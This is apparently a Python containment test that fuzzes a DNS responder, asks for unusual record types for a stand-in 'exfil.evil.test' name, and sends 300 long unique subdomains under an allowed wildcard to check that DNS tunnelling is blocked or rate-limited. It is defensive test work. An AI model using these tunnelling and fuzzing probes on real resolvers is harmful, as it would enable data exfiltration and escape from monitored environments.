#!/usr/bin/python3
# id: NP-28
# title: DNS responder: pointer loops, long labels, QDCOUNT lies, 5000 mutations; TXT/NULL/ANY/HTTPS; a tunnel in names below an allowed wildcard
# class: boundary
# needs: proxy
# expect: FORMERR/REFUSED or silence, alive after; no data in odd types; new names per second are limited
# layer: DNS responder
import os, sys; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from px import *
import subprocess
control()
servers = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")] or ["127.0.0.1"]
p = subprocess.run([sys.executable, os.path.join(os.path.dirname(os.path.abspath(__file__)), "dns_fuzz.py"), servers[0], "53"], capture_output=True, text=True, timeout=25)
print(p.stdout[-400:])
if "FAIL" in p.stdout or p.returncode not in (0, 77): escaped("responder after fuzz: %s" % (p.stdout + p.stderr)[-80:])
def ask(name, kind):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(x)]) + x for x in name.split(b".")) + b"\0" + struct.pack(">HH", kind, 1)
    s = socket.socket(socket.AF_INET6 if ":" in servers[0] else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    try: s.sendto(q, (servers[0], 53)); return s.recv(4096)
    except OSError: return b""
    finally: s.close()
for kind in (255, 16, 10, 65, 15, 2, 33, 252):
    for name in (b"data-0123.exfil.evil.test", b"allowed.test"):
        r = ask(name, kind)
        if len(r) > 7 and r[6:8] != b"\0\0" and kind != 255: escaped("type %d of %r has data" % (kind, name))
n, size, t = 0, 0, time.time()
for i in range(300):
    name = b"%04d" % i + b"x" * 56 + b"." + b"y" * 60 + b".wild.test"
    r, r2 = connect(name + b":443", t=1.0)
    if b" 200" in r[:40]: n, size = n + 1, size + len(name)
t = time.time() - t
print("%d new names resolved, %d bytes in %.1f s" % (n, size, t))
if n == 300: escaped("300 new names in %.1f s, %d bytes out: no limit" % (t, size))
blocked("%d of 300 new names in %.1f s" % (n, t))
